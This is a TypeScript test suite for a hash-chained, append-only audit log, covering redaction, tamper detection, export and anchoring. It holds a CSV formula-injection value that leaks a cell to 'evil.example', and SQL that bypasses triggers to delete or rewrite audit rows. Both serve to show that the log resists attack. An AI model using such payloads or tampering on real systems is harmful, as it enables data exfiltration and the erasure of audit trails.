import { existsSync } from 'node:fs';
import { appendFile, mkdtemp, rm } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { json } from 'node:stream/consumers';
import { sql } from 'kysely';
import { afterAll, beforeEach, describe, expect, it } from 'vitest';
import { systemClock } from '../clock.ts';
import type { Database } from '../database/database.ts';
import { testDatabase } from '../database/testing.ts';
import { withOrigin } from '../request-origin.ts';
import { createAnchor, readAnchors } from './anchor.ts';
import { type Audit, type AuditFilter, createAudit, systemActor } from './audit.ts';
import { verifyEntries } from './chain.ts';
import { exportLines, readExport } from './export-file.ts';

let database: Database;
let audit: Audit;

beforeEach(async () => {
  await database?.close();
  database = await testDatabase();
  audit = createAudit(database.db);
});
afterAll(() => database?.close());

async function recordThree(): Promise<void> {
  for (const name of ['first', 'second', 'third']) {
    await audit.record({
      actor: systemActor,
      action: 'agent.created',
      subject: `agt_${name}`,
      details: { name },
    });
  }
}

/** What somebody with the database's own password could do. */
async function tamper(statement: string): Promise<void> {
  await database.transaction(async (trx) => {
    await sql`set local session_replication_role = replica`.execute(trx);
    await sql.raw(statement).execute(trx);
  });
}

describe('the audit record', () => {
  it('lists what was recorded, newest first, and verifies', async () => {
    await recordThree();
    const entries = await audit.list({ limit: 2 });
    expect(entries.map(({ seq, subject }) => [seq, subject])).toEqual([
      [3, 'agt_third'],
      [2, 'agt_second'],
    ]);
    expect(await audit.verify()).toMatchObject({ ok: true, entries: 3 });
  });

  it('keeps its order, and verifies, when the clock is set back between two entries', async () => {
    let now = new Date('2026-06-01T12:00:00Z');
    const jumping = createAudit(database.db, { now: () => now });
    for (const at of ['2026-06-01T12:00:00Z', '2020-01-01T00:00:00Z', '2036-01-01T00:00:00Z']) {
      now = new Date(at);
      await jumping.record({ actor: systemActor, action: 'agent.created', subject: `agt_${at}` });
    }
    expect((await jumping.list({ limit: 9 })).map(({ seq }) => seq)).toEqual([3, 2, 1]);
    expect(await jumping.verify()).toMatchObject({ ok: true, entries: 3 });
  });

  it('verifies when it is empty', async () => {
    expect(await audit.verify()).toMatchObject({ ok: true, entries: 0 });
  });

  it('keeps no card number and no key, whoever recorded it', async () => {
    const key = `sk_live_${'a1B2'.repeat(6)}`;
    await audit.record({
      actor: { type: 'token', id: 'tok_1', name: `CI ${key}` },
      action: 'agent.created',
      subject: 'agt_1',
      details: { name: '4111 1111 1111 1111', list: [{ [key]: key }], amount: 41_111_111_111 },
    });
    const [entry] = await audit.list({ limit: 1 });
    expect(JSON.stringify(entry)).not.toMatch(/a1B2a1B2|4111 1111/);
    expect(entry).toMatchObject({
      actor: { id: 'tok_1', name: expect.stringContaining('[redacted]') },
      details: { name: '[card number removed •••• 1111]', amount: 41_111_111_111 },
    });
    expect(await audit.verify()).toMatchObject({ ok: true, entries: 1 });
  });

  it('keeps any characters and still verifies', async () => {
    const details = {
      text: 'nul \u0000, half \ud800, emoji 🧾',
      nested: [{ big: 1e21, small: 0.1, none: undefined }],
    };
    await audit.record({ actor: systemActor, action: 'odd', details });
    expect(await audit.verify()).toMatchObject({ ok: true, entries: 1 });
  });

  it('stays one chain when many record at once', async () => {
    const actor = systemActor;
    await Promise.all(Array.from({ length: 25 }, (_, index) => audit.record({ actor, action: `a${index}` })));
    expect(await audit.verify()).toMatchObject({ ok: true, entries: 25 });
  });

  it('forgets an entry whose transaction fails', async () => {
    const failing = database.transaction(async (trx) => {
      await audit.record({ actor: systemActor, action: 'never' }, trx);
      throw new Error('no');
    });
    await expect(failing).rejects.toThrow('no');
    await audit.record({ actor: systemActor, action: 'after' });
    expect(await audit.verify()).toMatchObject({ ok: true, entries: 1 });
  });

  it.each(['update audit set action = $$x$$', 'delete from audit', 'truncate audit'])(
    'refuses: %s',
    async (statement) => {
      await recordThree();
      await expect(sql.raw(statement).execute(database.db)).rejects.toThrow('can only be added to');
    },
  );

  it.each([
    [
      'an edited entry',
      `update audit set details = '{"name": "other"}' where seq = 2`,
      2,
      'its contents were changed',
    ],
    [
      'an edited actor',
      `update audit set actor = jsonb_set(actor, '{name}', '"Eve"') where seq = 1`,
      1,
      'changed',
    ],
    ['a deleted entry', 'delete from audit where seq = 2', 2, 'missing'],
    ['a deleted first entry', 'delete from audit where seq = 1', 1, 'missing'],
    ['a deleted last entry', 'delete from audit where seq = 3', 3, 'missing'],
    [
      'entries in another order',
      'update audit set seq = case seq when 2 then 30 else 20 end where seq > 1; update audit set seq = seq / 10 where seq > 3',
      2,
      'does not follow',
    ],
  ])('finds %s', async (_what, statement, seq, why) => {
    await recordThree();
    await tamper(statement);
    const verdict = await audit.verify();
    expect(verdict).toMatchObject({ ok: false, seq });
    expect(verdict.ok ? '' : verdict.why).toContain(why);
  });

  it('exports every entry from the first, as lines that verify without the database', async () => {
    await recordThree();
    const lines = await Array.fromAsync(exportLines(audit.export(), 'jsonl'));
    const verified = (some: string[], more = {}) =>
      verifyEntries(readExport(Readable.from(some)), { isPart: true, ...more });
    expect(lines.map((line) => JSON.parse(line).seq)).toEqual([1, 2, 3]);
    expect(await verified(lines)).toMatchObject({ ok: true, entries: 3, first: 1 });
    expect(await verified(lines.slice(1))).toMatchObject({ ok: true, entries: 2, first: 2 });
    const changed = lines.map((line) => line.replace('agt_second', 'agt_other'));
    expect(await verified(changed)).toMatchObject({ ok: false, entries: 1, seq: 2 });
    expect(await verified([lines[0] ?? '', lines[2] ?? ''])).toMatchObject({ ok: false, seq: 2 });
    const anchors = [{ seq: 2, hash: 'f'.repeat(64) }];
    expect(await verified(lines, { anchors })).toMatchObject({ ok: false, seq: 2 });
    await expect(verified(['{"seq":1}'])).rejects.toThrow('Line 1 of the file is no entry');
  });

  it('exports CSV that no spreadsheet runs', async () => {
    const name = '=HYPERLINK("https://evil.example/?"&A1,"x")';
    await audit.record({ actor: { type: 'person', id: 'usr_1', name }, action: 'x', subject: '+1' });
    const [head, line] = await Array.fromAsync(exportLines(audit.export(), 'csv'));
    expect(head).toMatch(/^seq,at,actor_type,.*hash\r\n$/);
    expect(line).toContain(`,person,usr_1,"'=HYPERLINK(""https://evil.example/?""&A1,""x"")",x,'+1,`);
  });

  it('finds entries by what, who, where and when', async () => {
    const ann = { type: 'person', id: 'usr_1', name: 'Ann Lee' } as const;
    let now = new Date('2026-01-01T00:00:00Z');
    const dated = createAudit(database.db, { now: () => now });
    await dated.record({ actor: ann, action: 'agent.created', subject: 'agt_1' });
    now = new Date('2026-01-02T00:00:00Z');
    await dated.record({ actor: systemActor, action: 'agent.deleted', subject: 'agt_1' });
    await dated.record({ actor: ann, action: 'x', details: { account: 'acct_1' } });
    const found = async (filter: AuditFilter) =>
      (await dated.list({ limit: 9, ...filter })).map(({ seq }) => seq);
    expect(await found({ action: 'agent.' })).toEqual([2, 1]);
    expect(await found({ action: 'agent_' })).toEqual([]);
    expect(await found({ actor: 'usr_1' })).toEqual([3, 1]);
    expect(await found({ actor: 'lee' })).toEqual([3, 1]);
    expect(await found({ account: 'acct_1' })).toEqual([3]);
    expect(await found({ to: now })).toEqual([1]);
    expect(await found({ from: now, subject: 'agt_1' })).toEqual([2]);
  });

  it('says from where a request came', async () => {
    await withOrigin({ address: '192.0.2.1', request: 'req_1' }, () =>
      audit.record({ actor: systemActor, action: 'x', details: { a: 1 } }),
    );
    const [entry] = await audit.list({ limit: 1 });
    expect(entry?.details).toEqual({ a: 1, from: { address: '192.0.2.1', request: 'req_1' } });
  });
});

describe('an anchor', () => {
  it('proves that nothing up to it was rewritten, even by whoever can compute hashes', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'purser-anchor-'));
    const file = join(folder, 'deep/anchors.jsonl');
    const note = createAnchor({ target: { file }, clock: systemClock, head: () => audit.head() });
    await note();
    expect(existsSync(file)).toBe(false);
    await recordThree();
    await note();
    await note();
    await appendFile(file, '{"at":"2026-');
    const anchors = await readAnchors(file);
    expect(anchors).toEqual([{ seq: 3, hash: (await audit.head()).hash }]);
    expect(await audit.verify(anchors)).toMatchObject({ ok: true, anchors: 1 });
    await tamper(`delete from audit; delete from settings where key = 'audit.head'`);
    expect(await audit.verify(anchors)).toMatchObject({ ok: false, seq: 1, why: 'this entry is missing' });
    await recordThree();
    expect(await audit.verify()).toMatchObject({ ok: true, entries: 3 });
    expect(await audit.verify(anchors)).toMatchObject({ ok: false, seq: 3 });
    await rm(folder, { recursive: true });
  });

  it('is told to an address until that takes it', async () => {
    const told: unknown[] = [];
    let status = 500;
    const server = createServer(async (request, response) => {
      told.push(await json(request));
      response.writeHead(status).end();
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const { port } = server.address() as AddressInfo;
    const target = { url: `http://127.0.0.1:${port}/` };
    const note = createAnchor({ target, clock: systemClock, head: () => audit.head() });
    await recordThree();
    await expect(note()).rejects.toThrow('answered 500');
    status = 204;
    await note();
    await note();
    expect(told).toHaveLength(2);
    expect(told[1]).toMatchObject({ seq: 3, hash: (await audit.head()).hash });
    server.close();
  });
});
